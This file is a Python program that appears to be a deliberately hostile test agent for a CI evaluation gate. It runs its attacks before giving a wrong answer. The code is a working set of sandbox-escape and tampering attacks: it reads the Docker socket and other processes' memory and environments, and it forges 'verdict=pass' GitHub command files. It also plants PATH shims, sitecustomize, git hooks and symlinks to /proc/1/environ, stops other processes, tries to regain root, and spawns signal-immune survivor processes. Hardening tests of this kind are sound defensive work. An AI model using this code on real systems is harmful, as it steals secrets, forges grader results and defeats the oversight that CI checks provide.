"""An agent of a pull request that attacks: it answers wrongly, and tells in its answers what it
could get and do.

A program of the change (`command: python3 agent.py`), standard library only. Everything runs before
the first answer."""

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time

MARK = b"m4rked"
COMMANDS = "/github/file_commands/"
TAMPERED = "tampered-by-the-agent"
READ_MOST = 4 * 1024 * 1024
NOT_LOOKED_AT = ("/proc", "/sys", "/dev")


def say(**message):
    print(json.dumps(message), flush=True)


def attempt(found, name, act):
    """Keep what an attack got; an error is a defense."""
    try:
        got = act()
    except BaseException as error:
        found["refused"][name] = f"{type(error).__name__}: {error}"[:200]
    else:
        if got:
            found["got"][name] = str(got)[:2000]


def docker_socket():
    """Every variable of the gate stands in what the engine tells of the container."""
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(5)
    link.connect("/var/run/docker.sock")
    link.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
    return link.recv(65536)


def everybodys_proc():
    """Environments, memory, open files of all processes but this one."""
    found = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        for name in ("environ", "cmdline", "mem", "auxv", "stack"):
            with (
                contextlib.suppress(OSError, ValueError, OverflowError),
                open(f"/proc/{pid}/{name}", "rb") as file,
            ):
                if MARK in file.read(READ_MOST):
                    found.append(f"{pid}/{name}")
        with contextlib.suppress(OSError):
            found += [
                f"{pid}/fd/{fd}"
                for fd in os.listdir(f"/proc/{pid}/fd")
                if os.stat(f"/proc/{pid}").st_uid == 0
            ]
        with contextlib.suppress(OSError):
            os.listdir(f"/proc/{pid}/root/github/file_commands")
            found.append(f"{pid}/root")
    return found


def trace_the_gate():
    return [] if ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0) else ["PTRACE_ATTACH"]


def read_everything():
    """Any file on the whole file system that holds a marked secret."""
    found = []
    for where, folders, files in os.walk("/"):
        if where.startswith(NOT_LOOKED_AT):
            folders[:] = []
            continue
        for name in files:
            path = os.path.join(where, name)
            with contextlib.suppress(OSError):
                if stat.S_ISREG(os.lstat(path).st_mode):
                    with open(path, "rb") as file:
                        if MARK in file.read(READ_MOST):
                            found.append(path)
    return found


def write(path, text=TAMPERED, mode="a"):
    with open(path, mode) as file:
        file.write(text)
    return path


def command_files():
    lines = f"verdict=pass\nexit-code=0\nreason={TAMPERED}\n"
    return [write(COMMANDS + name, lines) for name in os.listdir(COMMANDS)]


def command_files_by_name():
    return tried(
        write,
        [COMMANDS + name for name in ("set_output_1", "set_env_1", "add_path_1", "step_summary_1")],
    )


def tried(act, paths):
    """Those that could be changed."""
    done = []
    for path in paths:
        with contextlib.suppress(OSError):
            done.append(act(path))
    return done


def gate_modules():
    """What the gate imports later, its bytecode, its interpreter's start, its libraries."""
    roots = (
        "/opt/evalgate",
        "/usr/lib/python3*",
        "/usr/local/lib/python3*",
        "/usr/lib/*-linux-gnu",
    )
    done = []
    for root in roots:
        for folder in glob.glob(root):
            for where, _, files in os.walk(folder):
                done += tried(
                    write,
                    [
                        os.path.join(where, name)
                        for name in files[:40]
                        if name.endswith((".py", ".pyc"))
                    ],
                )
                done += tried(
                    lambda path: write(path, "import os", "w"),
                    [os.path.join(where, "sitecustomize.py")],
                )
    return done


def path_shims():
    """Programs that the gate starts, in every folder that it may look in, and git's settings of its
    HOME."""
    folders = [
        *os.environ["PATH"].split(":"),
        "/usr/local/sbin",
        "/sbin",
        "/bin",
        "/opt/evalgate/bin",
    ]
    names = ("git", "uv", "setpriv", "prlimit", "cp", "chown", "chmod", "sh")
    text = f"#!/bin/sh\necho {TAMPERED} >> {COMMANDS}set_output_1\n"
    homes = (
        "/github/home/.gitconfig",
        "/etc/gitconfig",
        "/root/.gitconfig",
        "/github/home/.config/git/config",
    )
    done = tried(
        lambda path: write(path, text, "w"),
        [f"{folder}/{name}" for folder in folders for name in names],
    )
    return done + tried(lambda path: write(path, f"[core]\nfsmonitor = {TAMPERED}\n", "w"), homes)


def git_hooks():
    """Of the checkout, which steps after this one use, and of the gate's private repositories."""
    places = [
        "/github/workspace/.git",
        *glob.glob("/github/**/bases/*/repository.git", recursive=True),
    ]
    done = []
    for place in places:
        done += tried(
            write,
            [
                f"{place}/hooks/{name}"
                for name in ("post-checkout", "pre-push", "reference-transaction")
            ],
        )
        done += tried(write, [f"{place}/config", f"{place}/info/attributes", f"{place}/HEAD"])
    return done + tried(
        write, ["/github/workspace/.gitattributes", "/github/workspace/evalgate.yml"]
    )


def caches_and_reports():
    names = (
        "journal.jsonl",
        "base-journal.jsonl",
        "results.json",
        "base.json",
        "summary.md",
        "comment.md",
        "junit.xml",
    )
    done = tried(write, [f"/github/workspace/evalgate-report/{name}" for name in names])
    caches = (
        "/github/workspace/.cache/evalgate",
        "/github/home/.cache/evalgate",
        "/var/cache/evalgate",
    )
    for cache in caches:
        for where, _, files in os.walk(cache):
            done += tried(write, [os.path.join(where, name) for name in [*files, TAMPERED]])
    for own in ("base", "metrics", "head/../base"):
        done += tried(
            write,
            [
                f"/var/lib/evalgate/{own}/{name}"
                for name in ("home/x", "installer/x", "tree/x", "granted/x")
            ],
        )
        done += tried(
            os.listdir, [f"/var/lib/evalgate/{own}/{name}" for name in (".", "home", "tree")]
        )
    return done


def own_environment():
    """The installed packages, which metrics and other agents of this side use."""
    return tried(
        write,
        [os.path.join(sys.prefix, "pyvenv.cfg"), json.__file__, os.path.join(sys.prefix, TAMPERED)],
    )


def shared_places():
    """Where the base's code and the metrics may look for files of their own, under names that can
    be known."""
    places = ("/tmp", "/var/tmp", "/run", "/run/lock", "/dev/mqueue", "/dev")
    return tried(write, [f"{place}/{TAMPERED}" for place in places])


def others_killed():
    done = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if os.stat(f"/proc/{pid}").st_uid != os.getuid():
                os.kill(int(pid), signal.SIGSTOP)
                done.append(pid)
    return done


def privileges():
    """Root again: by setuid, by programs that are setuid, by new namespaces."""
    done = tried(
        lambda act: act() or "uid 0",
        [lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.setgid(0)],
    )
    for command in (
        ["su", "-c", "id -u"],
        ["mount", "--bind", "/tmp", "/github"],
        ["unshare", "-m", "true"],
    ):
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            ended = subprocess.run(
                command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10, check=False
            )
            if ended.returncode == 0:
                done.append(" ".join(command))
    return done


def links():
    """Files that the gate may read or write as root, through links in what the agent may write."""
    for name in (
        "requirements.txt",
        "pyproject.toml",
        "evalgate-report",
        ".env",
        "test_config.json",
    ):
        with contextlib.suppress(OSError):
            os.symlink("/proc/1/environ", name)


def survivor():
    """Goes on when the agent is gone: double fork, a session of its own, deaf to signals, many of
    it."""
    if os.fork():
        return []
    os.setsid()
    nowhere = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):  # whoever started it would wait for the end of these
        os.dup2(nowhere, number)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    for _ in range(8):
        if os.fork() == 0:
            while True:
                for attack in (
                    command_files,
                    command_files_by_name,
                    caches_and_reports,
                    docker_socket,
                ):
                    with contextlib.suppress(BaseException):
                        attack()
                time.sleep(0.02)
    os._exit(0)


ATTACKS = (
    *(
        docker_socket,
        everybodys_proc,
        trace_the_gate,
        read_everything,
        command_files,
        command_files_by_name,
    ),
    *(
        gate_modules,
        path_shims,
        git_hooks,
        caches_and_reports,
        own_environment,
        shared_places,
        others_killed,
    ),
    *(privileges, links, survivor),
)


def carry_out():
    found = {"got": {}, "refused": {}, "about": {}}
    for attack in ATTACKS:
        attempt(found, attack.__name__, attack)
    marked = {name: value for name, value in os.environ.items() if MARK.decode() in value}
    if marked:
        found["got"]["environment"] = marked
    granted = os.environ.get("GRANTED_CREDENTIALS")
    if granted:
        with open(granted) as file:
            found["about"]["granted"] = file.read()
    with open("written-beside-itself.txt", "w") as file:
        file.write("a file of its own")
    ordinary = [sys.executable, "ordinary.py"]  # what is no attack must go on
    if os.path.exists(ordinary[1]):
        ended = subprocess.run(
            ordinary, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False
        )
        found["about"]["ordinary"] = ended.stdout + ended.stderr
    found["about"]["uid"] = os.getuid()
    found["about"]["groups"] = os.getgroups()
    with open("/proc/self/status") as file:
        found["about"]["status"] = [
            line.strip() for line in file if line.startswith(("Cap", "NoNew"))
        ]
    return found


def main():
    said = "Paris is the capital of France."
    if os.path.exists("attacks.txt"):  # the change's, not the base's
        said = "wrong " + json.dumps(carry_out())
    for line in sys.stdin:
        message = json.loads(line)
        session = message.get("session", "")
        kind = message["type"]
        if kind == "hello":
            say(type="ready", protocol=1, about={"framework": "shell"}, sessions=4)
        elif kind == "start":
            say(type="started", session=session)
        elif kind == "turn":
            content = {"role": "model", "parts": [{"text": said}]}
            say(type="event", session=session, author="agent", content=content, final=True)
            say(type="turn_end", session=session)
        elif kind == "end":
            say(type="ended", session=session)
        elif kind == "bye":
            break


if __name__ == "__main__":
    main()
